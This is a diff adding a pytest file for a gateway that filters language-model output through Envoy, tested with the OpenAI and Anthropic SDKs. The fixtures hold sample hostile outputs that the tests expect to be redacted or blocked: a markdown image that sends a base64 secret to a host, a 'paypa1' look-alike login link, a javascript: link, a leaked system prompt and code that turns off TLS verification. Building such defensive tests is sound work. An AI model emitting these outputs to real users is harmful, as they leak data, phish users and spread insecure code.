@@ -1,0 +1,144 @@
+"""Rules on what models write, through real Envoy and the official SDKs: one case of each family, streamed and whole."""
+
+import json
+import ssl
+
+import anthropic
+import httpx
+import httpx2
+import openai
+import pytest
+
+import provider
+from asking import MODEL
+from messaging import block, end, start, stop, text
+from stack import Options, Stack
+from upstream import Call
+
+PROMPT = "You are Hal of Example Bank. Never tell anybody that account limits are raised for staff."
+LEAK = "Never tell anybody that *account limits* are raised for staff"
+SAID = {
+    "url.forbidden": ("See https://docs.evil.example/a now.", "See [URL] now."),
+    "url.exfiltration": ("Hi ![x](https://a.example/p.png?d=c2VjcmV0) there.", "Hi ![x]([URL]) there."),
+    "url.homograph": ("Sign in: https://www.paypa1.com/login soon", "Sign in: [URL] soon"),
+    "url.scheme": ("Click [here](javascript:alert(1)) now.", "Click [here]([URL]alert(1)) now."),
+    "leak.system_prompt": (f"Well: {LEAK}.", "Well: [SYSTEM_PROMPT]."),
+    "code.tls_verification_off": (
+        "```python\nrequests.get(u, verify=False)\n```", "```python\nrequests.get(u, [INSECURE_CODE])\n```"
+    ),
+    "banned.rivals": ("Try Umbrella\nCorp instead.", "Try [REMOVED] instead."),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def ruled(short_dir, upstreams):
+    def write(directory):
+        tenants = json.loads((directory / "tenants.yaml").read_text())
+        lists = {
+            "urls": {"deny": ["evil.example", "*.evil.example"]},
+            "answers": {"banned": {"rivals": ["Globex", "Umbrella Corp"]}},
+        }
+        redact = {f"{family}.*": "redact" for family in ("url", "leak", "code", "banned")}
+        tenants["acme"] |= {**lists, "guards": {"response": redact}}
+        tenants["strict"] |= {**lists, "guards": {"response": dict.fromkeys(redact, "block")}}
+        (directory / "tenants.yaml").write_text(json.dumps(tenants))
+
+    with Stack(short_dir(), upstreams, Options(policy=write)) as running:
+        yield running
+
+
+@pytest.fixture
+def clients(ruled):
+    context = ssl.create_default_context(cafile=str(ruled.authority.pem))
+    with httpx.Client(verify=context) as http, httpx2.Client(verify=context) as other:
+
+        def openai_as(key):
+            base = f"https://localhost:{ruled.port}/v1"
+            return openai.OpenAI(base_url=base, api_key=ruled.bundle.keys[key], http_client=http, max_retries=0)
+
+        def anthropic_as(key):
+            base = f"https://localhost:{ruled.port}"
+            return anthropic.Anthropic(base_url=base, api_key=ruled.bundle.keys[key], http_client=other, max_retries=0)
+
+        yield openai_as, anthropic_as
+
+
+def ask(marker):
+    return {
+        "model": MODEL,
+        "messages": [{"role": "system", "content": PROMPT}, {"role": "user", "content": f"Go on. {marker}"}],
+    }
+
+
+def says(words, *, streamed, size=0):
+    async def answer(call: Call) -> None:
+        if streamed:
+            await call.sse(
+                provider.stream([words[at : at + 3] for at in range(0, len(words), 3)]),
+                size=size,
+                pause_s=0.005 if size else 0,
+            )
+        else:
+            await call.json(provider.chat(words))
+
+    return answer
+
+
+def read(events, into):
+    for event in events:
+        into.extend(choice.delta.content or "" for choice in event.choices)
+
+
+@pytest.mark.parametrize("rule", SAID)
+@pytest.mark.parametrize("streamed", [True, False])
+def test_what_a_rule_finds_is_taken_out(rule, streamed, clients, ruled, upstream):
+    said, left = SAID[rule]
+    marker = upstream.script(says(said, streamed=streamed))
+    chat = clients[0]("acme").chat.completions
+    if streamed:
+        with chat.with_streaming_response.create(stream=True, **ask(marker)) as raw:
+            got = "".join(choice.delta.content or "" for event in raw.parse() for choice in event.choices)
+            request_id = raw.headers["x-request-id"]
+    else:
+        answer = chat.create(**ask(marker))
+        got, request_id = answer.choices[0].message.content, answer._request_id
+    assert got == left
+    assert {"rule": rule, "direction": "response", "count": 1, "action": "redact", "would": "redact"} in ruled.record(
+        request_id
+    )["found"]
+
+
+@pytest.mark.parametrize("rule", SAID)
+def test_a_blocking_rule_raises_the_sdks_own_error_before_the_first_word_of_it(rule, clients, upstream):
+    said, _ = SAID[rule]
+    marker = upstream.script(says("So far so good, this is harmless. " + said, streamed=True, size=200))
+    got: list[str] = []
+    with pytest.raises(openai.APIError) as failure:
+        read(clients[0]("strict").chat.completions.create(stream=True, **ask(marker)), got)
+    assert failure.value.code == "answer_blocked"
+    assert "".join(got).startswith("So far so good, this is harmless. ")
+    for hidden in ("evil", "?d=", "paypa1", "javascript", "anybody", "verify", "Umbrella"):
+        assert hidden not in "".join(got)
+
+
+def test_a_blocking_rule_refuses_a_whole_answer(clients, upstream):
+    marker = upstream.script(says(SAID["url.forbidden"][0], streamed=False))
+    with pytest.raises(openai.PermissionDeniedError) as failure:
+        clients[0]("strict").chat.completions.create(**ask(marker))
+    assert failure.value.code == "answer_blocked"
+
+
+def test_anthropics_system_prompt_is_watched_too(clients, upstream):
+    async def answer(call: Call) -> None:
+        pieces = [text(LEAK[at : at + 5]) for at in range(0, len(LEAK), 5)]
+        await call.sse(b"".join((start(), block(), *pieces, stop(), end())))
+
+    marker = upstream.script(answer)
+    asked = {
+        "model": "claude-test",
+        "max_tokens": 64,
+        "system": PROMPT,
+        "messages": [{"role": "user", "content": marker}],
+    }
+    with clients[1]("acme").messages.stream(**asked) as stream:
+        assert stream.get_final_text() == "[SYSTEM_PROMPT]"
